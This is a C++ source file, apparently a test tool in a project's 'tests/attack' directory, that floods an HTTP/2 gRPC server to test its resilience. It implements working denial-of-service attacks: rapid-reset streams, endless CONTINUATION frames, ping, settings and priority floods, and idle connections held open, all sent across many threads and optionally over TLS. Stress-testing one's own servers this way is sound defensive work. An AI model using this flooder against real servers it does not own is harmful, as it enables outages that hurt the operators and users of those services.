#include "tests/attack/http2_attack.h"

#include <netdb.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <atomic>
#include <cerrno>
#include <csignal>
#include <functional>
#include <map>
#include <memory>
#include <string_view>
#include <thread>
#include <utility>

#include "common/base/host_port.h"
#include "common/base/status.h"

namespace medley::attack {
namespace {

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr uint8_t kData = 0, kHeaders = 1, kPriority = 2, kReset = 3, kSettings = 4, kPing = 6, kWindow = 8,
                  kContinuation = 9;
constexpr uint8_t kEndStream = 1, kEndHeaders = 4;
constexpr size_t kBatchBytes = 64 << 10;
constexpr int kPatienceMicros = 100'000;  // of one write

std::string Number(uint32_t value) {
  return {static_cast<char>(value >> 24), static_cast<char>(value >> 16), static_cast<char>(value >> 8),
          static_cast<char>(value)};
}

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string out = Number(static_cast<uint32_t>(payload.size())).substr(1);
  out += static_cast<char>(type);
  out += static_cast<char>(flags);
  out += Number(stream);
  out += payload;
  return out;
}

// A header field that enters the dynamic table.
std::string Field(std::string_view name, std::string_view value) {
  std::string out = "\x40";
  out += static_cast<char>(name.size());
  out += name;
  out += static_cast<char>(value.size());
  out += value;
  return out;
}

const std::string kFirstCall = "\x83\x86" + Field(":path", "/medley.scheduler.v1.SchedulerService/Plan") +
                               Field(":authority", "a") + Field("content-type", "application/grpc") +
                               Field("te", "trailers");
const std::string kCall = "\x83\x86\xc1\xc0\xbf\xbe";  // the same by the indices of the dynamic table

std::string Padded() {
  std::string fields = kCall;
  for (int i = 0; i < 24; ++i)
    fields += std::string("\x00\x03k", 3) + std::to_string(10 + i) + "\x7f\x01" + std::string(128, 'x');
  return fields;
}

// What one round of an attack sends; `stream` is a stream that was not used before.
using Round = std::function<std::string(uint32_t stream)>;

const std::map<std::string, Round>& Attacks() {
  static const std::string large(16384, 'x');
  static const std::map<std::string, Round> attacks = {
      {"reset",  // calls that are cancelled at once
       [](uint32_t s) { return Frame(kHeaders, kEndHeaders, s, kCall) + Frame(kReset, 0, s, Number(8)); }},
      {"reset-data",
       [](uint32_t s) {
         return Frame(kHeaders, kEndHeaders, s, kCall) + Frame(kData, 0, s, std::string_view(large).substr(0, 4096)) +
                Frame(kReset, 0, s, Number(8));
       }},
      {"reset-fields",
       [](uint32_t s) { return Frame(kHeaders, kEndHeaders, s, Padded()) + Frame(kReset, 0, s, Number(8)); }},
      {"reset-unknown",  // of a method that does not exist
       [](uint32_t s) {
         return Frame(kHeaders, kEndHeaders, s, "\x83\x86\x04\x02/x\xc0\xbf\xbe") + Frame(kReset, 0, s, Number(8));
       }},
      {"made-reset",  // the server resets the stream, because it may not grow its window by 0
       [](uint32_t s) { return Frame(kHeaders, kEndHeaders, s, kCall) + Frame(kWindow, 0, s, Number(0)); }},
      {"empty", [](uint32_t s) { return Frame(kHeaders, kEndHeaders | kEndStream, s, kCall); }},
      {"open", [](uint32_t s) { return Frame(kHeaders, kEndHeaders, s, kCall); }},
      {"ping", [](uint32_t) { return Frame(kPing, 0, 0, "12345678"); }},
      {"settings", [](uint32_t) { return Frame(kSettings, 0, 0, std::string(2, '\0') + "\x04" + Number(65535)); }},
      {"priority", [](uint32_t s) { return Frame(kPriority, 0, s, Number(0) + "x"); }},
      {"empty-data",
       [](uint32_t s) { return s == 3 ? Frame(kHeaders, kEndHeaders, s, kCall) : Frame(kData, 0, 3, ""); }},
      {"continuation",  // a list of fields without an end
       [](uint32_t s) {
         const std::string more =
             Frame(kContinuation, 0, 3, std::string("\x00\x01k\x7f\x81\x7f", 6) + std::string(16384 - 6, 'x'));
         return s == 3 ? Frame(kHeaders, 0, s, kCall) + more : more;
       }},
      {"silent", nullptr},   // connections that send nothing
      {"preface", nullptr},  // connections that send the preface and nothing else
  };
  return attacks;
}

struct Counts {
  std::atomic<int64_t> connections{0}, ended{0}, frames{0}, bytes{0};
};

// A connection that may be encrypted. -1: it is closed.
class Connection {
 public:
  Connection(const addrinfo& address, SSL_CTX* tls) : fd_(socket(address.ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    const timeval patience{0, kPatienceMicros};
    setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (connect(fd_, address.ai_addr, address.ai_addrlen) != 0) return;
    if (tls != nullptr) {
      ssl_ = SSL_new(tls);
      SSL_set_fd(ssl_, fd_);
      if (SSL_connect(ssl_) != 1) return;
    }
    open_ = true;
  }
  ~Connection() {
    if (ssl_ != nullptr) SSL_free(ssl_);
    close(fd_);
  }
  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  bool open() const { return open_; }

  // False: the server has closed the connection, or read nothing until `end`.
  bool Send(std::string_view bytes, base::SteadyTime end) {
    base::SystemClock clock;
    while (!bytes.empty()) {
      const auto sent = ssl_ != nullptr ? SSL_write(ssl_, bytes.data(), static_cast<int>(bytes.size()))
                                        : static_cast<int>(send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL));
      if (sent > 0) bytes.remove_prefix(static_cast<size_t>(sent));
      if (!Drain()) return false;
      if (sent > 0) continue;
      const bool waits = ssl_ != nullptr ? SSL_get_error(ssl_, sent) == SSL_ERROR_WANT_WRITE : errno == EAGAIN;
      if (!waits) return open_ = false;
      if (clock.Steady() >= end) return false;
    }
    return true;
  }

  // Reads what the server has sent. False: it has closed the connection.
  bool Drain() {
    std::array<char, 65536> buffer;
    pollfd ready{fd_, POLLIN, 0};
    while (open_ && poll(&ready, 1, 0) == 1) {
      const auto read = ssl_ != nullptr ? SSL_read(ssl_, buffer.data(), static_cast<int>(buffer.size()))
                                        : static_cast<int>(recv(fd_, buffer.data(), buffer.size(), 0));
      if (read <= 0) open_ = false;
    }
    return open_;
  }

 private:
  const int fd_;
  SSL* ssl_ = nullptr;
  bool open_ = false;
};

// Sends rounds on one connection until `end` or until the server closes it.
void Attack(Connection& connection, const Round& round, base::SteadyTime end, base::Clock& clock, Counts& sent) {
  if (!connection.Send(
          std::string(kPreface) + Frame(kSettings, 0, 0, "") + Frame(kHeaders, kEndHeaders | kEndStream, 1, kFirstCall),
          end)) {
    return;
  }
  uint32_t stream = 1;
  while (clock.Steady() < end && stream < (uint32_t{1} << 30)) {
    std::string batch;
    int64_t frames = 0;
    while (batch.size() < kBatchBytes) {
      batch += round(stream += 2);
      ++frames;
    }
    if (!connection.Send(batch, end)) return;
    sent.frames += frames;
    sent.bytes += static_cast<int64_t>(batch.size());
  }
}

void Repeat(const addrinfo& address, SSL_CTX* tls, const Round& round, base::SteadyTime end, Counts& sent) {
  base::SystemClock clock;
  while (clock.Steady() < end) {
    Connection connection(address, tls);
    if (connection.open()) {
      ++sent.connections;
      Attack(connection, round, end, clock, sent);
    }
    if (!connection.open()) ++sent.ended;
    if (!connection.open()) clock.SleepFor(base::milliseconds(1), {});
  }
}

// Opens connections that send at most the preface, and holds them.
void Hold(const addrinfo& address, SSL_CTX* tls, std::string_view first, int count, base::SteadyTime end,
          Counts& sent) {
  base::SystemClock clock;
  std::vector<std::unique_ptr<Connection>> held;
  for (int i = 0; i < count && clock.Steady() < end; ++i) {
    auto& connection = *held.emplace_back(std::make_unique<Connection>(address, tls));
    if (connection.open()) ++sent.connections;
    if (connection.open()) connection.Send(first, end);
  }
  while (clock.Steady() < end) clock.SleepFor(base::milliseconds(20), {});
  for (const auto& connection : held) sent.ended += connection->Drain() ? 0 : 1;
}

}  // namespace

std::vector<std::string> AttackNames() {
  std::vector<std::string> names;
  for (const auto& [name, round] : Attacks()) names.push_back(name);
  return names;
}

absl::StatusOr<Sent> Flood(const FloodOptions& options) {
  const auto attack = Attacks().find(options.attack);
  if (attack == Attacks().end()) return base::InvalidArgument("no attack {}", options.attack);
  MEDLEY_ASSIGN_OR_RETURN(const base::HostPort address, base::SplitHostPort(options.address));
  addrinfo* found = nullptr;
  if (getaddrinfo(address.host.c_str(), std::to_string(address.port).c_str(), nullptr, &found) != 0) {
    return base::NotFound("no address {}", options.address);
  }
  const std::unique_ptr<addrinfo, decltype(&freeaddrinfo)> free(found, freeaddrinfo);
  std::signal(SIGPIPE, SIG_IGN);
  const base::SteadyTime end = base::SystemClock().Steady() + options.time;
  Counts sent;
  if (attack->second == nullptr) {
    const std::string first = std::string(kPreface) + Frame(kSettings, 0, 0, "");
    Hold(*found, options.tls, attack->first == "preface" ? first : "", options.connections, end, sent);
  } else {
    std::vector<std::jthread> threads;
    for (int i = 0; i < options.connections; ++i) {
      threads.emplace_back([&] { Repeat(*found, options.tls, attack->second, end, sent); });
    }
  }
  return Sent{sent.connections, sent.ended, sent.frames, sent.bytes};
}

}  // namespace medley::attack
